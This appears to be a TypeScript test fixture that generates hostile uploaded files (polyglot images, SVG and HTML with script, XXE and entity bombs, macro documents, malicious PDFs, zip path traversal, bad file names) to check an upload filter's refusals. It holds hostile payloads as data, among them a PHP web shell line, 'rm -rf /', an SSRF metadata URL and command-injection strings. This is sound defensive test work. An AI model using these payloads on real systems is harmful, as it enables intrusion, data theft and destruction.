import { createHash } from 'node:crypto'
import { deflateSync, gzipSync } from 'node:zlib'
import type { FileRefusal } from '@linli/contract'
import sharp from 'sharp'
import { photo, type PhotoFormat } from '../uploads.factory.ts'
import { box, makeDocx, makePdf, makePng, makeVideo, makeWebm, makeXlsx, makeZip, objectStream } from './made-files.factory.ts'

export interface HostileFile {
  what: string
  bytes: Buffer
  /** What its sender says it is. */
  type?: string
  name?: string
  /** A refusal, one of any kind, drawn anew, or either of the last two; `ready` is for what only costs time to look at. */
  outcome: FileRefusal | 'refused' | 'redrawn' | 'refused or redrawn' | 'ready'
}

const html = '<html><body onload="alert(document.cookie)"></body></html>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const formats: PhotoFormat[] = ['jpeg', 'png', 'webp', 'avif']
const text = (content: string, encoding: BufferEncoding = 'utf8') => Buffer.from(content, encoding)

/** Files somebody would send to do harm, and photos that would betray who took them. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photos = Object.fromEntries(
    await Promise.all(formats.map(async (format) => [format, await photo({ format, width: 200, height: 150 })] as const)),
  ) as Record<PhotoFormat, Buffer>
  return [
    ...drawings(),
    ...pages(),
    ...programs(),
    ...mixtures(photos),
    ...cutOff(photos),
    ...scribbledOn(photos),
    ...tooLarge(photos.jpeg),
    ...(await betraying()),
    ...archives(),
    ...pdfs(),
    ...videos(),
    ...(await otherFormats()),
    ...noise(),
    ...badNames(photos.jpeg),
  ]
}

function drawings(): HostileFile[] {
  const bomb = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`
  const outside = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
  const disguises: [string, Buffer][] = [
    ['plain', text(svg)],
    ['with a declaration', text(`<?xml version="1.0"?>${svg}`)],
    ['with a byte order mark', text(`\ufeff${svg}`)],
    ['in UTF-16', text(`\ufeff${svg}`, 'utf16le')],
    ['in UTF-16, the other way', text(`\ufeff${svg}`, 'utf16le').swap16()],
    ['after blanks', text(`${' \n\t'.repeat(400)}${svg}`)],
    ['after a comment', text(`<!-- ${'x'.repeat(3000)} -->${svg}`)],
    ['with entities that grow', text(bomb)],
    ['with an entity from outside', text(outside)],
    ['packed', gzipSync(svg)],
    [
      'with a page in it',
      text('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:1"/></foreignObject></svg>'),
    ],
    ['with an image from elsewhere', text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>')],
    ['in another namespace', text('<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>1</x:script></x:svg>')],
  ]
  return disguises.flatMap(([what, bytes]) =>
    ['image/png', 'image/jpeg'].map((type) => ({
      what: `a drawing ${what}, said to be ${type}`,
      bytes,
      type,
      outcome: 'type_not_accepted' as const,
    })),
  )
}

function pages(): HostileFile[] {
  const plain: [string, Buffer][] = [
    ['plain', text(html)],
    ['with a doctype', text(`<!DOCTYPE html>${html}`)],
    ['with a byte order mark', text(`\ufeff${html}`)],
    ['in UTF-16', text(`\ufeff${html}`, 'utf16le')],
    ['in UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
    ['after blanks', text(`${'\n'.repeat(2000)}${html}`)],
    ['as an archive of a page', text(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${html}`)],
  ]
  const magics: [string, string][] = [
    ['GIF', '474946383961'],
    ['JPEG', 'ffd8ffe000104a46494600010100000100010000'],
    ['PNG', '89504e470d0a1a0a0000000d49484452'],
    ['WebP', '524946460000010057454250565038200000'],
    ['AVIF', '0000001c667479706176696600000000617669666d696631'],
    ['HEIC', '00000018667479706865696300000000686569636d696631'],
    ['PDF', '255044462d312e340a'],
    ['BMP', '424d360000000000'],
    ['TIFF', '49492a0008000000'],
    ['ZIP', '504b0304140000000800'],
    ['MP4', '0000001c6674797069736f6d00000200'],
    ['WebM', '1a45dfa3934282847765626d'],
    ['icon', '0000010001001010'],
  ]
  return [
    ...plain.map(([what, bytes]) => ({ what: `a page ${what}`, bytes, outcome: 'type_not_accepted' as const })),
    ...magics.map(([what, magic]) => ({
      what: `a page that begins like ${what}`,
      bytes: Buffer.concat([Buffer.from(magic, 'hex'), text(html)]),
      outcome: 'refused' as const,
    })),
  ]
}

function programs(): HostileFile[] {
  const scripts: [string, Buffer][] = [
    ['JavaScript', text('alert(1)')],
    ['GIF and JavaScript at once', text('GIF89a=1;alert(1)//')],
    ['BMP and JavaScript at once', text('BM=1;alert(1)//')],
    ['PHP', text('<?php system($_GET["c"]);')],
    ['a shell script', text('#!/bin/sh\nrm -rf /')],
    ['Python', text('#!/usr/bin/env python3\nimport os')],
    ['a batch file', text('@echo off\r\ndel *.*')],
    ['PowerShell', text('Invoke-Expression (New-Object Net.WebClient)')],
    ['an HTML application', text('<hta:application><script>1</script>')],
    ['a Windows program', Buffer.concat([text('MZ'), Buffer.alloc(300)])],
    ['a Linux program', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(300)])],
    ['a Java class', Buffer.from('cafebabe00000034', 'hex')],
    ['WebAssembly', Buffer.from('0061736d01000000', 'hex')],
    ['a Windows shortcut', Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(100)])],
    ['CSV with formulas', text('name,=cmd|calc!A1\n')],
    ['plain words', text('路灯坏了')],
    ['XML', text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>')],
    ['JSON', text('{"__proto__":{"admin":true}}')],
    ['PostScript', text('%!PS-Adobe-3.0\n(%pipe%id) (w) file')],
    ['an old Word document', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
    ['rich text', text('{\\rtf1\\object\\objdata 0}')],
    ['ImageMagick’s script', text('push graphic-context\nfill \'url(https://x"|id")\'')],
  ]
  return scripts.map(([what, bytes]) => ({ what, bytes, outcome: 'type_not_accepted' as const }))
}

function mixtures(photos: Record<PhotoFormat, Buffer>): HostileFile[] {
  const tails: [string, Buffer][] = [
    ['a page', text(html)],
    ['a script', text('\n<script>alert(1)</script>')],
    ['a drawing', text(svg)],
    ['PHP', text('<?php system("id"); ?>')],
    ['a PDF', makePdf()],
    ['an archive', makeZip([{ name: 'evil.exe', content: 'MZ' }])],
    ['a Java archive', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }])],
  ]
  const comment = Buffer.concat([
    photos.jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, html.length + 2]),
    text(html),
    photos.jpeg.subarray(2),
  ])
  const packed: HostileFile = {
    what: 'a PNG with a page packed in a comment',
    bytes: makePng(50, 50, { before: [['zTXt', Buffer.concat([text('Comment\0\0', 'latin1'), deflateSync(html)])]] }),
    outcome: 'redrawn',
  }
  return [
    ...formats.flatMap((format) =>
      tails.map(([what, tail]) => ({
        what: `${format} with ${what} behind it`,
        bytes: Buffer.concat([photos[format], tail]),
        outcome: 'mixed_content' as const,
      })),
    ),
    { what: 'JPEG with a page in a comment', bytes: comment, outcome: 'mixed_content' },
    {
      what: 'PNG with a script in a text',
      bytes: makePng(50, 50, { before: [['tEXt', text('Comment\0<script>1</script>')]] }),
      outcome: 'mixed_content',
    },
    { what: 'PNG with an unknown chunk', bytes: makePng(50, 50, { before: [['evIl', text('SecretPhone')]] }), outcome: 'redrawn' },
    { what: 'JPEG with noise behind it', bytes: Buffer.concat([photos.jpeg, Buffer.alloc(500, 0x41)]), outcome: 'redrawn' },
    packed,
  ]
}

function cutOff(photos: Record<PhotoFormat, Buffer>): HostileFile[] {
  return formats.flatMap((format) =>
    [0.05, 0.2, 0.4, 0.6, 0.8, 0.95].map((share) => ({
      what: `${format} cut off after ${share * 100} %`,
      bytes: photos[format].subarray(0, Math.floor(photos[format].length * share)),
      outcome: 'refused' as const,
    })),
  )
}

function scribbledOn(photos: Record<PhotoFormat, Buffer>): HostileFile[] {
  return formats.flatMap((format) =>
    Array.from({ length: 6 }, (_, round) => {
      const bytes = Buffer.from(photos[format])
      for (let count = 0; count < 12; count++) {
        const random = createHash('sha256').update(`${format} ${round} ${count}`).digest()
        bytes[random.readUInt32LE(0) % bytes.length] = random[4] ?? 0
      }
      return { what: `${format} scribbled on, ${round}`, bytes, outcome: 'refused or redrawn' as const }
    }),
  )
}

function tooLarge(jpeg: Buffer): HostileFile[] {
  const huge = Buffer.from(jpeg)
  const frame = huge.findIndex((_, at) => huge[at] === 0xff && (huge[at + 1] === 0xc0 || huge[at + 1] === 0xc2))
  huge.writeUInt16BE(65_000, frame + 5)
  huge.writeUInt16BE(65_000, frame + 7)
  return [
    { what: 'a PNG that says it has 4 milliard pixels', bytes: makePng(65_535, 65_535, { rows: 1 }), outcome: 'too_many_pixels' },
    { what: 'a PNG that does have 400 million', bytes: makePng(20_000, 20_000), outcome: 'too_many_pixels' },
    { what: 'a PNG that is one line', bytes: makePng(500_000_000, 1), outcome: 'refused' },
    { what: 'a PNG that is two milliards wide', bytes: makePng(2 ** 31 - 1, 2 ** 31 - 1, { rows: 0 }), outcome: 'refused' },
    { what: 'a JPEG that says it has 4 milliard pixels', bytes: huge, outcome: 'too_many_pixels' },
    {
      what: 'a photo of 21 MB said to be a video',
      bytes: Buffer.concat([jpeg, Buffer.alloc(21 * 1024 * 1024)]),
      type: 'video/mp4',
      outcome: 'too_large',
    },
    {
      what: 'a PDF of 21 MB said to be a video',
      bytes: makePdf([Buffer.alloc(21 * 1024 * 1024, 0x20)]),
      type: 'video/mp4',
      outcome: 'too_large',
    },
  ]
}

async function betraying(): Promise<HostileFile[]> {
  return Promise.all(
    formats.flatMap((format) =>
      [1, 2, 3, 4, 5, 6, 7, 8].map(async (orientation) => ({
        what: `${format} with place, device and name, turned ${orientation}`,
        bytes: await photo({ format, width: 120, height: 80, orientation }),
        outcome: 'redrawn' as const,
      })),
    ),
  )
}

const rels = (type: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External" Target="https://evil.example/x"/></Relationships>`

function archives(): HostileFile[] {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const zeros = Buffer.alloc(30 * 1024 * 1024)
  const made: [string, Buffer, HostileFile['outcome']][] = [
    ['an archive', makeZip([{ name: 'a.txt', content: 'x' }]), 'type_not_accepted'],
    ['a Java archive', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'type_not_accepted'],
    [
      'a document with endless relations',
      makeDocx([{ name: 'word/_rels/x.rels', content: '<Relationship'.repeat(1_000_000) }]),
      'unpacks_too_large',
    ],
    [
      'a document with relations that do not end',
      makeDocx([{ name: 'word/_rels/x.rels', content: '<Relationship'.repeat(70_000) }]),
      'ready',
    ],
    ['a document with macros', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'active_content'],
    ['a sheet with macros', makeXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]), 'active_content'],
    ['a document with a control', makeDocx([{ name: 'word/activeX/activeX1.bin', content: 'x' }]), 'active_content'],
    ['a document with a program in it', makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'MZ' }]), 'active_content'],
    [
      'a document with a template from elsewhere',
      makeDocx([{ name: 'word/_rels/settings.xml.rels', content: rels('attachedTemplate') }]),
      'active_content',
    ],
    [
      'a document with an object from elsewhere',
      makeDocx([{ name: 'word/_rels/document.xml.rels', content: rels('oleObject') }]),
      'active_content',
    ],
    ['a document with a page in it', makeDocx([{ name: 'word/afchunk.htm', content: html }]), 'active_content'],
    ['a document with a script in it', makeDocx([{ name: 'word/x.js', content: 'x' }]), 'active_content'],
    [
      'a document that unpacks to 180 MB',
      makeDocx(Array.from({ length: 6 }, (_, n) => ({ name: `word/${n}.xml`, content: zeros }))),
      'unpacks_too_large',
    ],
    ['a document that lies about its size', makeDocx([{ name: 'word/lie.xml', content: zeros, claimed: 10 }]), 'unpacks_too_large'],
    ['a document whose parts are the same bytes', makeDocx([{ name: 'word/b.xml', content: 'x' }], { overlapping: true }), 'mixed_content'],
    ['a document that leads out of its folder', makeDocx([{ name: '../../evil.xml', content: 'x' }]), 'mixed_content'],
    ['a document with a path from the root', makeDocx([{ name: '/etc/cron.d/x', content: 'x' }]), 'mixed_content'],
    ['a document with a Windows path', makeDocx([{ name: '..\\evil.xml', content: 'x' }]), 'mixed_content'],
    ['a document with two parts of one name', makeDocx([{ name: 'word/document.xml', content: 'x' }]), 'mixed_content'],
    ['a document with a comment behind it', makeDocx([], { comment: text(html) }), 'mixed_content'],
    ['a document with bytes behind it', Buffer.concat([makeDocx(), text(html)]), 'mixed_content'],
    ['a document behind a program', makeDocx([], { before: Buffer.concat([text('MZ'), Buffer.alloc(200)]) }), 'type_not_accepted'],
    ['a document with a password', makeDocx([{ name: 'word/x.xml', content: 'x', flags: 1 }]), 'encrypted'],
    ['a document without content', makeZip([{ name: '[Content_Types].xml', content: 'word/document.xml' }]), 'type_not_accepted'],
    ['a document cut off', makeDocx([{ name: 'word/x.xml', content: 'x'.repeat(500) }]).subarray(0, 300), 'refused'],
    ['a document of 6,000 parts', makeDocx(Array.from({ length: 6000 }, (_, n) => ({ name: `word/${n}.xml` }))), 'unpacks_too_large'],
  ]
  return made.map(([what, bytes, outcome]) => ({ what, bytes, outcome, type }))
}

function pdfs(): HostileFile[] {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
  const made: [string, Buffer, HostileFile['outcome']][] = [
    ['with a script', makePdf([catalog, '<< /S /JavaScript /JS (app.alert(1)) >>']), 'active_content'],
    ['with a script under a written-out name', makePdf([catalog, '<< /S /J#61vaScript /#4aS (app.alert(1)) >>']), 'active_content'],
    ['that starts a program', makePdf([catalog, '<< /S /Launch /F (cmd.exe) >>']), 'active_content'],
    ['with a file in it', makePdf([catalog, '<< /Names << /EmbeddedFiles 4 0 R >> >>']), 'active_content'],
    ['with a film that acts', makePdf([catalog, '<< /Subtype /RichMedia >>']), 'active_content'],
    ['with a form that is a program', makePdf([catalog, '<< /AcroForm << /XFA 5 0 R >> >>']), 'active_content'],
    ['that sends what is typed', makePdf([catalog, '<< /S /SubmitForm /F (http://x) >>']), 'active_content'],
    ['with a script in a packed list', makePdf([catalog, objectStream('1 0 << /S /JavaScript /JS (x) >>')]), 'active_content'],
    ['with a script in a packed list, written out', makePdf([catalog, objectStream('1 0 << /S /J#61vaScript >>')]), 'active_content'],
    ['with a list packed in another way', makePdf([catalog, objectStream('1 0', '/Filter /LZWDecode')]), 'active_content'],
    ['with a list packed twice', makePdf([catalog, objectStream('1 0', '/Filter [/ASCIIHexDecode /FlateDecode]')]), 'active_content'],
    ['with a list that is a bomb', makePdf([catalog, objectStream(Buffer.alloc(80 * 1024 * 1024, 0x20))]), 'unpacks_too_large'],
    [
      'with a list that is broken',
      makePdf([catalog, '<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed at all\nendstream']),
      'damaged',
    ],
    ['with half a million lists that never end', makePdf([catalog, '/ObjStm stream\n'.repeat(500_000)]), 'damaged'],
    ['with half a million streams that never end', makePdf([catalog, '>> stream\n'.repeat(500_000)]), 'ready'],
    ['with a password', makePdf([catalog], '/Encrypt 9 0 R'), 'encrypted'],
    ['with a page in it', makePdf([catalog, html]), 'mixed_content'],
    ['with a page behind it', Buffer.concat([makePdf(), text(html)]), 'mixed_content'],
    ['with words behind it', Buffer.concat([makePdf(), text('alert(1)')]), 'mixed_content'],
    ['with an archive behind it', Buffer.concat([makePdf(), makeZip([{ name: 'a', content: 'x' }])]), 'mixed_content'],
    ['without an end', makePdf().subarray(0, 60), 'damaged'],
    ['behind a page', Buffer.concat([text(html), makePdf()]), 'type_not_accepted'],
    ['of no version', text('%PDF-x\n%%EOF'), 'refused'],
  ]
  return made.map(([what, bytes, outcome]) => ({ what: `a PDF ${what}`, bytes, outcome, type: 'application/pdf' }))
}

/** Boxes within boxes, by their heads alone. */
function nested(type: string, levels: number): Buffer {
  const heads = Array.from({ length: levels }, (_, level) => {
    const head = Buffer.alloc(8)
    head.writeUInt32BE((levels - level) * 8)
    head.write(level === 0 ? type : 'trak', 4)
    return head
  })
  return Buffer.concat(heads)
}

function videos(): HostileFile[] {
  const video = makeVideo()
  const made: [string, Buffer, HostileFile['outcome']][] = [
    ['MP4 with a page behind it', Buffer.concat([video, text(html)]), 'mixed_content'],
    ['MP4 with an archive behind it', Buffer.concat([video, makeZip([{ name: 'a', content: 'x' }])]), 'mixed_content'],
    ['MP4 with a page in its notes', makeVideo('isom', box('udta', html)), 'mixed_content'],
    ['MP4 with a box that has no name', makeVideo('isom', box('\0\u0001\u0002\u0003', 'x')), 'damaged'],
    ['MP4 cut off', video.subarray(0, video.length - 100), 'damaged'],
    ['MP4 without pictures', Buffer.concat([box('ftyp', 'isom', '\0\0\0\0', 'isom'), box('free', Buffer.alloc(50))]), 'damaged'],
    ['MP4 with a few bytes behind it', Buffer.concat([video, Buffer.from('abc')]), 'damaged'],
    ['MP4 with tracks in tracks, 50,000 deep', Buffer.concat([makeVideo(), nested('moov', 50_000)]), 'ready'],
    ['WebM cut off', makeWebm().subarray(0, 300), 'damaged'],
    ['WebM with bytes behind it', Buffer.concat([makeWebm(), Buffer.alloc(20)]), 'mixed_content'],
    ['Matroska', makeWebm('matroska'), 'type_not_accepted'],
    ['AVI', Buffer.concat([text('RIFF\0\0\0\0AVI LIST'), Buffer.alloc(100)]), 'type_not_accepted'],
    ['MP3', Buffer.concat([text('ID3\u0003\0\0\0\0\0\0'), Buffer.alloc(100)]), 'type_not_accepted'],
    ['a list of addresses', text('#EXTM3U\nfile:///etc/passwd'), 'type_not_accepted'],
  ]
  return made.map(([what, bytes, outcome]) => ({ what, bytes, outcome, type: 'video/mp4' }))
}

async function otherFormats(): Promise<HostileFile[]> {
  const drawn = sharp({ create: { width: 20, height: 20, channels: 3, background: 'red' } })
  const made: [string, Buffer, HostileFile['outcome']][] = [
    ['GIF', await drawn.clone().gif().toBuffer(), 'type_not_accepted'],
    ['TIFF', await drawn.clone().tiff().toBuffer(), 'type_not_accepted'],
    ['BMP', Buffer.concat([text('BM'), Buffer.alloc(100)]), 'type_not_accepted'],
    ['an icon', Buffer.from('00000100010010100000010020006804000016000000', 'hex'), 'type_not_accepted'],
    ['Photoshop', text('8BPS\0\u0001\0\0\0\0\0\0\0\u0003'), 'type_not_accepted'],
    ['JPEG XL', Buffer.from('ff0a', 'hex'), 'type_not_accepted'],
    ['JPEG 2000', Buffer.from('0000000c6a5020200d0a870a00000014667479706a703220', 'hex'), 'type_not_accepted'],
    [
      'HEIC',
      Buffer.concat([box('ftyp', 'heic', '\0\0\0\0', 'mif1heic'), box('meta', Buffer.alloc(60)), box('mdat', Buffer.alloc(100))]),
      'heic_not_readable',
    ],
    ['a font', Buffer.concat([text('OTTO\0\u0001'), Buffer.alloc(60)]), 'type_not_accepted'],
    ['a database', Buffer.concat([text('SQLite format 3\0'), Buffer.alloc(100)]), 'type_not_accepted'],
  ]
  return made.map(([what, bytes, outcome]) => ({ what, bytes, outcome }))
}

function noise(): HostileFile[] {
  const random = (round: number) =>
    Buffer.concat(Array.from({ length: 40 }, (_, part) => createHash('sha256').update(`${round} ${part}`).digest()))
  return [
    { what: 'one byte', bytes: Buffer.from([0xff]), outcome: 'type_not_accepted' },
    { what: 'zeros', bytes: Buffer.alloc(5000), outcome: 'type_not_accepted' },
    { what: 'ones', bytes: Buffer.alloc(5000, 0xff), outcome: 'refused' },
    ...Array.from({ length: 8 }, (_, round) => ({ what: `noise ${round}`, bytes: random(round), outcome: 'refused' as const })),
    ...Array.from({ length: 4 }, (_, round) => ({
      what: `noise with the sign of a JPEG ${round}`,
      bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), random(round)]),
      outcome: 'refused' as const,
    })),
  ]
}

function badNames(jpeg: Buffer): HostileFile[] {
  const names = [
    '../../etc/passwd',
    '..\\..\\boot.ini',
    'a\u202egpj.exe',
    'x.php.jpg\0.png',
    '"; filename="evil.html',
    'a\r\nSet-Cookie: x=1',
    '\ud800',
    '👩‍👩‍👧.jpg',
    'CON',
    'x'.repeat(5000),
  ]
  return names.map((name) => ({
    what: `a photo named ${JSON.stringify(name).slice(0, 40)}`,
    bytes: jpeg,
    name,
    outcome: 'redrawn' as const,
  }))
}
